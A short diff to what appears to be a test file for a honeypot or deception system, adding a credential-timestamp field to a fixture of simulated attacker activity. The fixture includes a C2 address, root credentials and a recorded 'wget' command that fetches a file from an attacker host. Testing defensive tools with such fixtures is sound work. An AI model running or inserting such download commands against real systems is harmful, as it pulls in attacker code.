@@ -61,6 +61,7 @@ onEachDatabase('what an attacker can be told by', ({ open }) => {
       payloads: ['f'.repeat(64)],
       c2: ['198.51.100.9:81'],
       credentials: [['root', secret]],
+      credentialTimes: [T0 + 2_000],
       accepted: [['root', secret]],
       commands: [
         { ts: T0 + 3_000, decky: 'web-01', text: 'wget http://198.51.100.9:81/x' },
